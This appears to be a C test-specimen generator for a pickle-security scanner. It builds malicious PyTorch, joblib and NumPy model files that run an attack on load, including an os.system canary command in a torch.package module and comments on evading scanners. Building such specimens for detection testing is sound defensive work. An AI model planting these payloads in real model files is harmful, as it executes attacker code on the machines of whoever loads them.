/* SPDX-License-Identifier: Apache-2.0 */
/* The attack in the files that frameworks write around a pickle. */
#include "specimen/put.h"
#include "specimen/specimen.h"

#define WEIGHTS "\0\0\x80\x3f\0\0\0\x40" /* 1.0, 2.0 */

static struct pk_span span(const struct pk_buf *b)
{
	return pk_buf_span(b);
}

/* ('storage', FloatStorage, key, 'cpu', 2[, None]) as a persistent id. */
static void put_storage(struct pk_buf *b, const char *key, bool legacy)
{
	pk_put_op(b, PK_OP_MARK);
	pk_put_text(b, "storage");
	pk_put_global(b, "torch", "FloatStorage");
	pk_put_text(b, key);
	pk_put_text(b, "cpu");
	pk_put_int(b, 2);
	if (legacy)
		pk_put_op(b, PK_OP_NONE);
	pk_put_op(b, PK_OP_TUPLE);
	pk_put_op(b, PK_OP_BINPERSID);
}

/* {'weight': a tensor of two numbers}, after the attack: torch.load returns
 * what the victim expects. */
static void put_state_dict(struct pk_buf *b, const char *key, bool legacy)
{
	pk_put_proto(b, 2);
	pk_put_attack(b);
	pk_put_op(b, PK_OP_POP);
	pk_put_global(b, "collections", "OrderedDict");
	pk_put_op(b, PK_OP_EMPTY_TUPLE);
	pk_put_op(b, PK_OP_REDUCE);
	pk_put_text(b, "weight");
	pk_put_global(b, "torch._utils", "_rebuild_tensor_v2");
	pk_put_op(b, PK_OP_MARK);
	put_storage(b, key, legacy);
	pk_put_int(b, 0);
	pk_put_int(b, 2);
	pk_put_op(b, PK_OP_TUPLE1);
	pk_put_int(b, 1);
	pk_put_op(b, PK_OP_TUPLE1);
	pk_put_op(b, PK_OP_NEWFALSE);
	pk_put_global(b, "collections", "OrderedDict");
	pk_put_op(b, PK_OP_EMPTY_TUPLE);
	pk_put_op(b, PK_OP_REDUCE);
	pk_put_op(b, PK_OP_TUPLE);
	pk_put_op(b, PK_OP_REDUCE);
	pk_put_op(b, PK_OP_SETITEM);
	pk_put_op(b, PK_OP_STOP);
}

void pk_specimen_torch_zip(struct pk_buf *b)
{
	struct pk_buf pickle = { 0 };

	put_state_dict(&pickle, "0", false);
	pk_put_zip(
		b,
		(struct pk_put_member[]){
			{ .name = "archive/data.pkl", .data = span(&pickle) },
			{ .name = "archive/data/0", .data = PK_LIT(WEIGHTS) },
			{ .name = "archive/version", .data = PK_LIT("3\n") },
		},
		3);
	pk_buf_release(&pickle);
}

/* The magic number, the version, what the writer's machine was. */
static void put_legacy_head(struct pk_buf *b)
{
	pk_put_proto(b, 2);
	pk_put_op(b, PK_OP_LONG1);
	pk_buf_puts(b, "\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19.");
	pk_put_proto(b, 2);
	pk_put_op(b, PK_OP_BININT2);
	pk_put_le(b, 1001, 2);
	pk_put_op(b, PK_OP_STOP);
	pk_put_proto(b, 2);
	pk_put_op(b, PK_OP_EMPTY_DICT);
	pk_put_op(b, PK_OP_MARK);
	pk_put_text(b, "protocol_version");
	pk_put_op(b, PK_OP_BININT2);
	pk_put_le(b, 1001, 2);
	pk_put_text(b, "little_endian");
	pk_put_op(b, PK_OP_NEWTRUE);
	pk_put_op(b, PK_OP_SETITEMS);
	pk_put_op(b, PK_OP_STOP);
}

void pk_specimen_torch_legacy(struct pk_buf *b)
{
	put_legacy_head(b);
	put_state_dict(b, "1", true);
	pk_put_proto(b, 2);
	pk_put_op(b, PK_OP_EMPTY_LIST);
	pk_put_text(b, "1");
	pk_put_op(b, PK_OP_APPEND);
	pk_put_op(b, PK_OP_STOP);
	pk_put_le(b, 2, 8);
	pk_buf_put(b, WEIGHTS, sizeof(WEIGHTS) - 1);
}

/* Source that PackageImporter runs when the pickle asks for the module. */
void pk_specimen_torch_package(struct pk_buf *b)
{
	struct pk_buf pickle = { 0 };

	pk_put_proto(&pickle, 3);
	pk_put_global(&pickle, "net", "Net");
	pk_put_op(&pickle, PK_OP_EMPTY_TUPLE);
	pk_put_op(&pickle, PK_OP_NEWOBJ);
	pk_put_op(&pickle, PK_OP_STOP);
	pk_put_zip(
		b,
		(struct pk_put_member[]){
			{ .name = "pack/.data/extern_modules",
			  .data = PK_LIT("") },
			{ .name = "pack/.data/version", .data = PK_LIT("6\n") },
			{ .name = "pack/net.py",
			  .data = PK_LIT("import os\n"
					 "os.system('" PK_CANARY_COMMAND
					 "')\n\n\nclass Net:\n    pass\n") },
			{ .name = "pack/model/model.pkl",
			  .data = span(&pickle) },
		},
		4);
	pk_buf_release(&pickle);
}

/* ---- joblib, NumPy ---- */

void pk_specimen_joblib(struct pk_buf *b)
{
	pk_put_stealthy(b);
}

void pk_specimen_joblib_gzip(struct pk_buf *b)
{
	struct pk_buf pickle = { 0 };

	pk_put_stealthy(&pickle);
	pk_put_gzip(b, span(&pickle));
	pk_buf_release(&pickle);
}

void pk_specimen_joblib_zlib(struct pk_buf *b)
{
	struct pk_buf pickle = { 0 };

	pk_put_stealthy(&pickle);
	pk_put_zlib(b, span(&pickle));
	pk_buf_release(&pickle);
}

/* An array between the opcodes, then the attack: readers that do not skip the
 * raw bytes are lost before it. */
void pk_specimen_joblib_array(struct pk_buf *b)
{
	pk_put_proto(b, 3);
	pk_put_op(b, PK_OP_EMPTY_LIST);
	pk_put_global(b, "joblib.numpy_pickle", "NumpyArrayWrapper");
	pk_put_op(b, PK_OP_EMPTY_TUPLE);
	pk_put_op(b, PK_OP_NEWOBJ);
	pk_put_op(b, PK_OP_EMPTY_DICT);
	pk_put_op(b, PK_OP_MARK);
	pk_put_text(b, "subclass");
	pk_put_global(b, "numpy", "ndarray");
	pk_put_text(b, "shape");
	pk_put_int(b, 2);
	pk_put_op(b, PK_OP_TUPLE1);
	pk_put_text(b, "order");
	pk_put_text(b, "C");
	pk_put_text(b, "dtype");
	pk_put_global(b, "numpy", "dtype");
	pk_put_text(b, "u1");
	pk_put_op(b, PK_OP_NEWFALSE);
	pk_put_op(b, PK_OP_NEWTRUE);
	pk_put_op(b, PK_OP_TUPLE3);
	pk_put_op(b, PK_OP_REDUCE);
	pk_put_text(b, "allow_mmap");
	pk_put_op(b, PK_OP_NEWFALSE);
	pk_put_op(b, PK_OP_SETITEMS);
	pk_put_op(b, PK_OP_BUILD);
	pk_buf_puts(b, "\xff\xff"); /* the array's two bytes */
	pk_put_op(b, PK_OP_APPEND);
	pk_put_attack(b);
	pk_put_op(b, PK_OP_POP);
	pk_put_op(b, PK_OP_STOP);
}

void pk_specimen_npy(struct pk_buf *b)
{
	pk_put_npy(b, "|O", "(1,)");
	pk_put_stealthy(b);
}

void pk_specimen_npz(struct pk_buf *b)
{
	struct pk_buf array = { 0 };

	pk_specimen_npy(&array);
	pk_put_zip(b,
		   (struct pk_put_member[]){
			   { .name = "weights.npy", .data = span(&array) },
		   },
		   1);
	pk_buf_release(&array);
}
